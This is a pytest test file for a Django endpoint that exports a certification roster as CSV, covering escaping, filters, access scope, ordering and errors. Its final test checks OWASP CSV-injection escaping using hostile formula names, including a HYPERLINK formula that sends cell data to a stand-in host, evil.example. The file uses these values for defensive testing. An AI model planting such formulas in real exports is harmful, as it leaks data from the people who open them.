"""GET /api/v1/roster.csv: the roster's rows, filters and scope as streamed RFC 4180 CSV."""

import csv
import datetime
import io

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone

from certification.rules import is_expiring_soon
from core import policy
from tests.api.conftest import bulk_certifications
from tests.factories import CertificationFactory, SpecializationFactory

URL = "/api/v1/roster.csv"
HEADER = (
    "certification_number,status,first_name,last_name,county_code,county_name,issued_on,"
    "expires_on,expiring_soon,specializations,updated_at\r\n"
)


def body(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def state(cast, client_for):
    return client_for(cast.state)


def test_the_csv_has_a_header_and_one_line_per_certification(state, cast):
    cert = CertificationFactory(
        number="PSS-0001000",
        issuing_county=cast.county,
        first_name="Ana",
        last_name="Reyes",
        issued_on=datetime.date(2024, 5, 1),
        expires_on=datetime.date(2026, 5, 1),
        updated_at=datetime.datetime(2025, 3, 4, 5, 6, 7, 123456, tzinfo=datetime.UTC),
    )
    SpecializationFactory(certification=cert, code="unhoused")
    SpecializationFactory(certification=cert, code="crisis")

    response = state.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="roster-')
    assert body(response) == HEADER + (
        "PSS-0001000,active,Ana,Reyes,alameda,Alameda,2024-05-01,2026-05-01,false,"
        "crisis;unhoused,2025-03-04T05:06:07.123456Z\r\n"
    )


def test_commas_quotes_line_breaks_and_non_ascii_names_survive(state, cast):
    CertificationFactory(
        number="PSS-0000001",
        issuing_county=cast.county,
        first_name='Mary "Mae", Jr.',
        last_name="Nguyễn-Øster\nSmith",
        updated_at=datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC),
    )
    CertificationFactory(
        number="PSS-0000002",
        issuing_county=cast.county,
        first_name="José",
        last_name="O'Brien, Müller",
        updated_at=datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC),
    )

    text = body(state.get(URL))
    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert '"Mary ""Mae"", Jr.","Nguyễn-Øster\nSmith"' in text
    assert 'José,"O\'Brien, Müller"' in text
    assert [row[2:4] for row in rows[1:]] == [
        ['Mary "Mae", Jr.', "Nguyễn-Øster\nSmith"],
        ["José", "O'Brien, Müller"],
    ]


def test_filters_and_scope_are_the_rosters(cast, client_for):
    bulk_certifications(3, cast.county, status="suspended")
    bulk_certifications(2, cast.county)
    bulk_certifications(4, cast.other_county, status="suspended")

    reviewer_rows = list(csv.DictReader(io.StringIO(body(client_for(cast.reviewer).get(URL)))))
    suspended = body(client_for(cast.state).get(URL, {"status": "suspended"}))
    suspended_rows = list(csv.DictReader(io.StringIO(suspended)))

    assert {row["county_code"] for row in reviewer_rows} == {"alameda"}
    assert len(reviewer_rows) == 5
    assert len(suspended_rows) == 7
    assert {row["status"] for row in suspended_rows} == {"suspended"}


def test_every_row_comes_out_in_key_order_across_chunks(state, cast):
    created = bulk_certifications(2500, cast.county, specializations=("crisis",))

    rows = list(csv.DictReader(io.StringIO(body(state.get(URL)))))

    assert [row["certification_number"] for row in rows] == [
        cert.number for cert in sorted(created, key=lambda cert: cert.pk)
    ]
    assert {row["specializations"] for row in rows} == {"crisis"}


def test_an_empty_roster_is_the_header_alone(state):
    assert body(state.get(URL)) == HEADER


def test_the_csv_is_served_whatever_the_client_accepts(state, cast):
    CertificationFactory(issuing_county=cast.county)

    for accept in ("text/csv", "application/json", "image/png"):
        response = state.get(URL, HTTP_ACCEPT=accept)
        assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
        assert body(response).startswith(HEADER)


@pytest.mark.parametrize(
    ("query", "field"),
    [({"county": "atlantis"}, "county"), ({"expires_before": "2025-02-30"}, "expires_before")],
)
def test_an_invalid_filter_answers_400_in_json(state, query, field):
    response = state.get(URL, query, HTTP_ACCEPT="text/csv")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()) == [field]


def test_anonymous_gets_401_in_json(api):
    response = api.get(URL, HTTP_ACCEPT="text/csv")

    assert response.status_code == 401
    assert response["WWW-Authenticate"] == "Token"
    assert response.json() == {"detail": "Authentication credentials were not provided."}


def test_expiring_soon_in_csv_and_json_agrees_with_the_rule(state, cast):
    today = timezone.localdate()
    cases = [
        (status, days)
        for status in ("active", "suspended", "expired")
        for days in (-1, 0, 1, policy.EXPIRING_SOON_DAYS, policy.EXPIRING_SOON_DAYS + 1)
    ]
    for n, (status, days) in enumerate(cases):
        expires_on = today + datetime.timedelta(days=days)
        CertificationFactory(
            number=f"PSS-S{n:03d}",
            issuing_county=cast.county,
            status=status,
            issued_on=expires_on - datetime.timedelta(days=730),
            expires_on=expires_on,
        )
    expected = {
        f"PSS-S{n:03d}": is_expiring_soon(status, today + datetime.timedelta(days=days), on=today)
        for n, (status, days) in enumerate(cases)
    }

    rows = csv.DictReader(io.StringIO(body(state.get(URL))))
    results = state.get("/api/v1/roster/", {"page_size": 100}).json()["results"]

    assert {r["certification_number"]: r["expiring_soon"] == "true" for r in rows} == expected
    assert {r["certification_number"]: r["expiring_soon"] for r in results} == expected
    assert sum(expected.values()) == 3


def test_names_that_spreadsheets_would_run_as_formulas_come_out_as_text(state, cast):
    """OWASP "CSV injection": a cell starting with =, +, -, @, a tab or a carriage return is a
    formula to a spreadsheet. Such names reach the CSV with a leading apostrophe, as in the
    county roster CSV (one helper: core.spreadsheet)."""
    updated = datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC)
    hostile = {
        "PSS-0000011": ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)"),
        "PSS-0000012": ("-2+3", "+1"),
        "PSS-0000013": ("\t=1", "\r=2"),
        "PSS-0000014": ("Ana", "Reyes-Lopez"),
    }
    for number, (first, last) in hostile.items():
        CertificationFactory(
            number=number,
            issuing_county=cast.county,
            first_name=first,
            last_name=last,
            updated_at=updated,
        )

    rows = list(csv.DictReader(io.StringIO(body(state.get(URL)), newline="")))

    names = {row["certification_number"]: (row["first_name"], row["last_name"]) for row in rows}
    assert names == {
        "PSS-0000011": ('\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(1+1)"),
        "PSS-0000012": ("'-2+3", "'+1"),
        "PSS-0000013": ("'\t=1", "'\r=2"),
        "PSS-0000014": ("Ana", "Reyes-Lopez"),
    }
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values()
    )
